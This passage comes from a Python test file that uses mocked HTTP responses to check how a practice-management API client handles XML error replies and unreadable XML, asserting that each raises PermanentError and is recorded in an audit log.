    """A 4xx XML answer is PermanentError carrying the ErrorDescription, logged as such."""
    router.get(CATEGORIES).mock(return_value=xml(error("Malformed request"), 400))
    with pytest.raises(PermanentError, match=r"400 .*Malformed request"):
        await api.categories(COMPANY)
    assert audit.calls[-1].error == "Malformed request"


async def test_unreadable_xml_on_http_200_is_logged_as_a_failure(
    router: respx.MockRouter, api: PracticeManagerApi, audit: MemoryAudit
) -> None:
    """An XML-typed 200 that cannot be read is a PermanentError and a failed call in the log."""
    router.get(CURRENT_JOBS).mock(return_value=xml(b"<Response><Status>OK</Status><Jobs>"))
    with pytest.raises(PermanentError, match="unreadable XML"):
        await api.current_jobs(COMPANY)
    [record] = audit.calls
    assert record.status == 200
    assert record.error is not None
    assert "unreadable XML" in record.error
